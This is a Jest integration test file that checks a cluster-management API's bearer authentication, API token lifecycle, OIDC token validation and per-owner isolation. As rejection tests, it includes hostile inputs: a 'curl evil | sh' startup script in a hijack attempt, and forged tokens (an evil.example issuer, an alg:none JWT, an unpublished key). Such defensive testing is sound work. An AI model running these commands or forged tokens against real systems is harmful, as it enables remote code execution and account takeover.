/**
 * Who is asking, and whose is what (issue 11), through the real HTTP API of a real stack:
 * bearer required on every route but the public ones; API tokens issued, listed without
 * values, revoked at once; OIDC access tokens from a real local issuer (keys generated
 * here, discovery and JWKS served over HTTP on 127.0.0.1); and another owner's contexts,
 * definitions, clusters and tokens answering 404 on every route, as if they did not exist.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { statSync } from 'node:fs';
import path from 'node:path';
import { SignJWT, UnsecuredJWT, exportJWK, generateKeyPair, type JWK } from 'jose';
import { SA_OWNER, clusterWorkflowId, serviceWorkflowId } from '../workflows/messages.js';
import { oidcLoginOf } from '../api/auth.js';
import { configFromEnv } from '../model/config.js';
import { openSqliteStore, type Store } from '../store/index.js';
import { startStack, waitForState, type Stack } from './harness.js';

/** A real OIDC issuer: discovery document and JWKS over HTTP, keys made here. */
interface Issuer {
  url: string;
  sign(claims: Record<string, unknown>, opts?: { kid?: string; exp?: string | number; iss?: string; aud?: string }): Promise<string>;
  /** Publishes another key (rotation); tokens it signs carry its kid. */
  rotate(): Promise<string>;
  close(): Promise<void>;
}

async function startIssuer(): Promise<Issuer> {
  const keys = new Map<string, { privateKey: CryptoKey; jwk: JWK }>();
  const addKey = async (kid: string) => {
    const { privateKey, publicKey } = await generateKeyPair('RS256', { extractable: true });
    keys.set(kid, { privateKey, jwk: { ...(await exportJWK(publicKey)), kid, alg: 'RS256', use: 'sig' } });
  };
  await addKey('k1');
  let url = '';
  const server: Server = createServer((req, res) => {
    if (req.url === '/realms/cern/.well-known/openid-configuration') {
      res.setHeader('content-type', 'application/json');
      return void res.end(JSON.stringify({ issuer: `${url}/realms/cern`, jwks_uri: `${url}/realms/cern/protocol/openid-connect/certs` }));
    }
    if (req.url === '/realms/cern/protocol/openid-connect/certs') {
      res.setHeader('content-type', 'application/json');
      return void res.end(JSON.stringify({ keys: [...keys.values()].map((k) => k.jwk) }));
    }
    res.statusCode = 404;
    res.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  let n = 1;
  return {
    url: `${url}/realms/cern`,
    async sign(claims, opts = {}) {
      const kid = opts.kid ?? 'k1';
      const key = keys.get(kid)?.privateKey ?? (await generateKeyPair('RS256')).privateKey; // an unknown kid: a key nobody published
      return new SignJWT(claims)
        .setProtectedHeader({ alg: 'RS256', kid })
        .setIssuer(opts.iss ?? `${url}/realms/cern`)
        .setAudience(opts.aud ?? 'cloudgate')
        .setIssuedAt()
        .setExpirationTime(opts.exp ?? '5m')
        .sign(key);
    },
    async rotate() {
      const kid = `k${++n}`;
      await addKey(kid);
      return kid;
    },
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

let stack: Stack;
let issuer: Issuer;
let store: Store;
beforeAll(async () => {
  issuer = await startIssuer();
  stack = await startStack({ auth: { oidcIssuer: issuer.url, oidcAudience: 'cloudgate' } });
  store = await openSqliteStore(path.join(stack.config.dataDir, 'cloudgate.sqlite'));
});
afterAll(async () => {
  await store?.close();
  await stack?.stop();
  await issuer?.close();
});

const bearer = (token: string) => ({ Authorization: `Bearer ${token}` });
const offering = { cpus: 1, memoryMiB: 1024, diskGiB: 10 };

/** A token for `owner` issued by the admin through the API. */
async function tokenFor(owner: string, role: 'user' | 'admin' = 'user'): Promise<string> {
  const res = await stack.http('POST', '/v1/tokens', { owner, role });
  expect(res.status).toBe(201);
  return res.body.token as string;
}

function expect401(res: { status: number; body: any; headers: Headers }, detail?: RegExp) {
  expect(res.status).toBe(401);
  expect(res.headers.get('content-type')).toMatch(/application\/problem\+json/);
  expect(res.headers.get('www-authenticate')).toMatch(/^Bearer realm="cloudgate"/);
  if (detail) expect(res.body.detail).toMatch(detail);
}

describe('who is asking', () => {
  it('every route but the public ones answers 401 problem+json with WWW-Authenticate: missing, malformed or unknown bearer', async () => {
    const doc = (await stack.http('GET', '/openapi.json', undefined, { Authorization: '' })).body as { paths: Record<string, Record<string, { security?: unknown[] }>> };
    const routes = Object.entries(doc.paths).flatMap(([p, ops]) =>
      Object.entries(ops).map(([m, op]) => ({ method: m.toUpperCase(), path: p.replace(/\{[^}]+\}/g, 'x1'), open: Array.isArray(op.security) })),
    );
    const guarded = routes.filter((r) => !r.open);
    expect(guarded.length).toBeGreaterThan(20);
    for (const r of guarded) {
      const anonymous = await stack.http(r.method, r.path, r.method === 'GET' || r.method === 'DELETE' ? undefined : {}, { Authorization: '' });
      expect({ route: `${r.method} ${r.path}`, status: anonymous.status }).toEqual({ route: `${r.method} ${r.path}`, status: 401 });
      expect401(anonymous, /Authorization: Bearer/);
      expect401(await stack.http(r.method, r.path, undefined, bearer('nonsense')));
      expect401(await stack.http(r.method, r.path, undefined, { Authorization: 'Basic YWRtaW46YWRtaW4=' }), /Bearer <token>/);
    }
    // The public ones answer without a bearer.
    expect((await stack.http('GET', '/healthz', undefined, { Authorization: '' })).status).toBe(200);
    expect((await stack.http('GET', '/openapi.json', undefined, { Authorization: '' })).status).toBe(200);
    // How to sign in: this site trusts an issuer but names no client of its own (no "Sign in with …").
    const options = await stack.http('GET', '/v1/login-options', undefined, { Authorization: '' });
    expect({ status: options.status, body: options.body }).toEqual({ status: 200, body: { oidc: { issuer: issuer.url, scope: 'openid profile' } } });
    expect((await stack.http('GET', '/v1/pair/123456', undefined, { Authorization: '' })).status).toBe(404);
    const phoneHome = await stack.http('POST', '/v1/instances/x-svc-0/readiness', { status: 'ok' }, { Authorization: '' });
    expect(phoneHome.status).toBe(401);
    expect(phoneHome.body.detail).not.toMatch(/API token/); // its own per-instance token, not ours
  });

  it('the first admin token sits in <data dir>/admin-token, mode 0600', async () => {
    const file = path.join(stack.dataDir, 'admin-token');
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(stack.adminToken).toMatch(/^cg_[A-Za-z0-9_-]{43}$/);
  });

  it('API tokens: an admin issues them (shown once), they are listed without values, revoked at once, and expire', async () => {
    const issued = await stack.http('POST', '/v1/tokens', { owner: 'carol', role: 'user', ttlSeconds: 3600 });
    expect(issued.status).toBe(201);
    expect(issued.body).toMatchObject({ owner: 'carol', role: 'user', token: expect.stringMatching(/^cg_/), id: expect.stringMatching(/^tok-[0-9a-f]{12}$/) });
    expect(Date.parse(issued.body.expiresAt) - Date.now()).toBeGreaterThan(3500_000);
    const carol = bearer(issued.body.token);
    expect((await stack.http('GET', '/v1/contexts', undefined, carol)).status).toBe(200);

    // Listed without values: not the token, not its hash.
    const listed = await stack.http('GET', '/v1/tokens?owner=carol');
    expect(listed.body.items).toEqual([{ id: issued.body.id, owner: 'carol', role: 'user', createdAt: expect.any(String), expiresAt: issued.body.expiresAt }]);
    expect(JSON.stringify((await stack.http('GET', '/v1/tokens')).body)).not.toContain(issued.body.token.slice(3, 20));
    // Stored as a hash only.
    expect(JSON.stringify(await store.listApiTokens('carol'))).not.toContain(issued.body.token);

    // A user may not issue tokens, and sees only their own.
    const bad = await stack.http('POST', '/v1/tokens', { owner: 'carol', role: 'admin' }, carol);
    expect(bad.status).toBe(403);
    expect((await stack.http('GET', '/v1/tokens', undefined, carol)).body.items.map((t: any) => t.id)).toEqual([issued.body.id]);
    // Bad input names the field.
    const invalid = await stack.http('POST', '/v1/tokens', { owner: 'no spaces please', role: 'root' });
    expect(invalid.status).toBe(422);
    expect(invalid.body.errors.map((e: any) => e.field).sort()).toEqual(['owner', 'role']);

    // Revoked: the next use is a 401.
    expect((await stack.http('DELETE', `/v1/tokens/${issued.body.id}`)).status).toBe(204);
    expect401(await stack.http('GET', '/v1/contexts', undefined, carol), /revoked/);

    // Expired (issued with a lifetime already over, straight into the store).
    const { token } = await store.createApiToken({ owner: 'carol', role: 'user', expiresAt: new Date(Date.now() - 1000) });
    expect401(await stack.http('GET', '/v1/contexts', undefined, bearer(token)), /expired/);
  });

  it('GET /v1/me says who a bearer is: owner, role and how, never the token', async () => {
    const issued = await stack.http('POST', '/v1/tokens', { owner: 'frank', role: 'user' });
    const me = await stack.http('GET', '/v1/me', undefined, bearer(issued.body.token));
    expect(me).toMatchObject({ status: 200, body: { owner: 'frank', role: 'user', via: 'token', tokenId: issued.body.id } });
    expect(me.headers.get('cache-control')).toBe('no-store');
    expect(JSON.stringify(me.body)).not.toContain(issued.body.token.slice(3));
    expect((await stack.http('GET', '/v1/me')).body).toMatchObject({ owner: 'admin', role: 'admin', via: 'token' });
    expect401(await stack.http('GET', '/v1/me', undefined, { Authorization: '' }), /Authorization: Bearer/);
    expect((await stack.http('GET', '/v1/me?owner=admin', undefined, bearer(issued.body.token))).status).toBe(422);
  });
});

describe('OIDC access tokens from the site issuer', () => {
  it('the sign-in settings: CLOUDGATE_OIDC_CLIENT_ID, _SCOPES and _RESOURCE read and checked, offered only with an issuer', () => {
    const site = { CLOUDGATE_OIDC_ISSUER: 'https://auth.example.org/realms/cern', CLOUDGATE_OIDC_AUDIENCE: 'cloudgate' };
    expect(oidcLoginOf(configFromEnv(site).auth)).toEqual({ issuer: site.CLOUDGATE_OIDC_ISSUER, scope: 'openid profile' });
    const full = configFromEnv({ ...site, CLOUDGATE_OIDC_CLIENT_ID: 'cloudgate-portal', CLOUDGATE_OIDC_SCOPES: 'openid profile cloudgate', CLOUDGATE_OIDC_RESOURCE: 'https://cloudgate.example.org/' });
    expect(oidcLoginOf(full.auth)).toEqual({ issuer: site.CLOUDGATE_OIDC_ISSUER, clientId: 'cloudgate-portal', scope: 'openid profile cloudgate', resource: 'https://cloudgate.example.org/' });
    expect(oidcLoginOf(configFromEnv({ CLOUDGATE_OIDC_AUDIENCE: 'cloudgate' }).auth)).toBeUndefined();
    const refused = (env: Record<string, string>) => {
      try {
        configFromEnv(env);
      } catch (err) {
        return (err as { issues: { path: (string | number)[]; message: string }[] }).issues.map((i) => `${i.path.join('.')}: ${i.message}`);
      }
      return [];
    };
    expect(refused({ CLOUDGATE_OIDC_CLIENT_ID: 'cloudgate-portal' })).toEqual(['auth.oidcClientId: CLOUDGATE_OIDC_CLIENT_ID needs CLOUDGATE_OIDC_ISSUER']);
    expect(refused({ ...site, CLOUDGATE_OIDC_RESOURCE: 'https://cloudgate.example.org/#api' })).toEqual(['auth.oidcResource: must be an absolute URI without a fragment (RFC 8707)']);
    expect(refused({ ...site, CLOUDGATE_OIDC_SCOPES: 'openid  "profile"' })).toEqual(['auth.oidcScopes: must be scope names separated by single spaces']);
  });

  it('accepts a valid token: owner from preferred_username (else sub), admin from realm_access.roles', async () => {
    const jwt = await issuer.sign({ sub: 'f3a9-uuid', preferred_username: 'dana' });
    const mine = await stack.http('POST', '/v1/contexts', { name: 'dana-ctx' }, bearer(jwt));
    expect(mine.status).toBe(201);
    expect(mine.body.owner).toBe('dana');
    const bySub = await issuer.sign({ sub: 'erin-sub' });
    expect((await stack.http('POST', '/v1/contexts', { name: 'erin-ctx' }, bearer(bySub))).body.owner).toBe('erin-sub');
    // A user may not issue tokens; an admin by role may.
    expect((await stack.http('POST', '/v1/tokens', { owner: 'x', role: 'user' }, bearer(jwt))).status).toBe(403);
    const adminJwt = await issuer.sign({ preferred_username: 'ops', realm_access: { roles: ['offline_access', 'cloudgate-admin'] } });
    expect((await stack.http('GET', '/v1/me', undefined, bearer(jwt))).body).toEqual({ owner: 'dana', role: 'user', via: 'oidc' });
    expect((await stack.http('GET', '/v1/me', undefined, bearer(adminJwt))).body).toEqual({ owner: 'ops', role: 'admin', via: 'oidc' });
    expect((await stack.http('POST', '/v1/tokens', { owner: 'x', role: 'user' }, bearer(adminJwt))).status).toBe(201);
  });

  it('refuses expired, wrong-audience, wrong-issuer, unknown-key and alg:none tokens with 401', async () => {
    const claims = { preferred_username: 'dana' };
    expect401(await stack.http('GET', '/v1/contexts', undefined, bearer(await issuer.sign(claims, { exp: Math.floor(Date.now() / 1000) - 120 }))), /expired/);
    expect401(await stack.http('GET', '/v1/contexts', undefined, bearer(await issuer.sign(claims, { aud: 'someone-else' }))), /aud/);
    expect401(await stack.http('GET', '/v1/contexts', undefined, bearer(await issuer.sign(claims, { iss: 'https://evil.example/realms/cern' }))), /iss/);
    expect401(await stack.http('GET', '/v1/contexts', undefined, bearer(await issuer.sign(claims, { kid: 'nobody-published-this' }))));
    const none = new UnsecuredJWT(claims).setIssuer(issuer.url).setAudience('cloudgate').setIssuedAt().setExpirationTime('5m').encode();
    expect401(await stack.http('GET', '/v1/contexts', undefined, bearer(none)));
  });

  it('fetches the JWKS again for a key it has not seen (rotation)', async () => {
    await new Promise((r) => setTimeout(r, 5_500)); // past the JWKS cooldown of the unknown-key test
    const kid = await issuer.rotate();
    const res = await stack.http('GET', '/v1/contexts', undefined, bearer(await issuer.sign({ preferred_username: 'dana' }, { kid })));
    expect(res.status).toBe(200);
  });
});

describe('whose is what', () => {
  it("another user gets 404 for alice's context, definition, cluster and token on every route; lists show only one's own; an admin sees all", async () => {
    const alice = bearer(await tokenFor('alice'));
    const bob = bearer(await tokenFor('bob'));
    const aliceTokenId = (await stack.http('GET', '/v1/tokens?owner=alice')).body.items[0].id;

    const ctx = await stack.http('POST', '/v1/contexts', { name: 'alice-ctx', environment: { SECRET_PLACE: 'x' } }, alice);
    expect(ctx.status).toBe(201);
    const def = await stack.http(
      'POST',
      '/v1/cluster-definitions',
      { name: 'alice-def', services: [{ name: 'svc', image: 'cernvm', offering, min: 1, max: 3, contextId: ctx.body.id }] },
      alice,
    );
    expect(def.status).toBe(201);
    const cluster = await stack.http('POST', '/v1/clusters', { definitionId: def.body.id }, alice);
    expect(cluster.status).toBe(202);
    const id = cluster.body.id as string;
    await waitForState(stack, id, 'READY');

    const notFound = async (method: string, url: string, body?: unknown) => {
      const res = await stack.http(method, url, body, bob);
      expect({ route: `${method} ${url}`, status: res.status }).toEqual({ route: `${method} ${url}`, status: 404 });
      expect(JSON.stringify(res.body)).not.toContain('SECRET_PLACE');
    };
    await notFound('GET', `/v1/contexts/${ctx.body.id}`);
    await notFound('PUT', `/v1/contexts/${ctx.body.id}`, { name: 'hijacked', startupScript: 'curl evil | sh' });
    await notFound('GET', `/v1/contexts/${ctx.body.id}/versions`);
    await notFound('GET', `/v1/contexts/${ctx.body.id}/preview`);
    await notFound('POST', `/v1/contexts/${ctx.body.id}/pairings`, {});
    await notFound('DELETE', `/v1/contexts/${ctx.body.id}`);
    await notFound('GET', `/v1/cluster-definitions/${def.body.id}`);
    await notFound('GET', `/v1/clusters/${id}`);
    await notFound('GET', `/v1/clusters/${id}/instances`);
    await notFound('GET', `/v1/clusters/${id}/events`);
    await notFound('POST', `/v1/clusters/${id}/services/svc/scale`, { instances: 3 });
    await notFound('DELETE', `/v1/clusters/${id}`);
    await notFound('DELETE', `/v1/tokens/${aliceTokenId}`);
    // Submitting from alice's definition, or naming her context in one's own: as if they did not exist.
    const submit = await stack.http('POST', '/v1/clusters', { definitionId: def.body.id }, bob);
    expect(submit.status).toBe(422);
    expect(submit.body.errors).toEqual([expect.objectContaining({ field: 'definitionId', message: `no cluster definition "${def.body.id}"` })]);
    const borrow = await stack.http('POST', '/v1/cluster-definitions', { name: 'bob-def', services: [{ name: 's', image: 'cernvm', offering, min: 1, contextId: ctx.body.id }] }, bob);
    expect(borrow.status).toBe(422);
    expect(borrow.body.errors[0]).toMatchObject({ field: 'services[0].contextId', message: `no context "${ctx.body.id}"` });

    // Lists: one's own only; ?owner= naming someone else shows nothing of theirs.
    for (const list of ['/v1/contexts', '/v1/cluster-definitions', '/v1/clusters', '/v1/tokens']) {
      expect((await stack.http('GET', list, undefined, bob)).body.items.filter((x: any) => JSON.stringify(x).includes('alice'))).toEqual([]);
      expect((await stack.http('GET', `${list}?owner=alice`, undefined, bob)).body.items).toEqual([]);
    }
    expect((await stack.http('GET', '/v1/clusters', undefined, alice)).body.items.map((c: any) => c.id)).toEqual([id]);
    // An admin sees all, and filters by owner.
    expect((await stack.http('GET', '/v1/clusters')).body.items.map((c: any) => c.id)).toContain(id);
    expect((await stack.http('GET', '/v1/clusters?owner=alice')).body.items.map((c: any) => c.id)).toEqual([id]);
    expect((await stack.http('GET', `/v1/clusters/${id}`)).status).toBe(200);

    // Nothing of bob's attempts changed alice's things.
    expect((await stack.http('GET', `/v1/contexts/${ctx.body.id}`, undefined, alice)).body).toMatchObject({ name: 'alice-ctx', version: 1 });
    expect((await stack.http('GET', `/v1/clusters/${id}`, undefined, alice)).body).toMatchObject({ state: 'READY', owner: 'alice' });

    // The owner is the CloudgateOwner search attribute of the cluster's and its services' workflows.
    expect((await stack.client.workflow.getHandle(clusterWorkflowId(id)).describe()).typedSearchAttributes.get(SA_OWNER)).toBe('alice');
    expect((await stack.client.workflow.getHandle(serviceWorkflowId(id, 'svc')).describe()).typedSearchAttributes.get(SA_OWNER)).toBe('alice');

    // An Idempotency-Key is the caller's own: bob reusing alice's key makes his own request, not a replay of hers.
    const k = { 'Idempotency-Key': 'shared-key-1' };
    const first = await stack.http('POST', '/v1/clusters', { definitionId: def.body.id }, { ...alice, ...k });
    const other = await stack.http('POST', '/v1/clusters', { definitionId: def.body.id }, { ...bob, ...k });
    expect(first.status).toBe(202);
    expect(other.status).toBe(422);

    for (const c of [id, first.body.id]) expect((await stack.http('DELETE', `/v1/clusters/${c}`, undefined, alice)).status).toBe(202);
    for (const c of [id, first.body.id]) await waitForState(stack, c, 'TERMINATED');
  });

  it('only the owner pairs a machine with a context (an admin sees the context, not its secrets)', async () => {
    const frank = bearer(await tokenFor('frank'));
    const ctx = await stack.http('POST', '/v1/contexts', { name: 'frank-ctx' }, frank);
    expect((await stack.http('POST', `/v1/contexts/${ctx.body.id}/pairings`, {})).status).toBe(403);
    expect((await stack.http('POST', `/v1/contexts/${ctx.body.id}/pairings`, {}, frank)).status).toBe(201);
  });
});
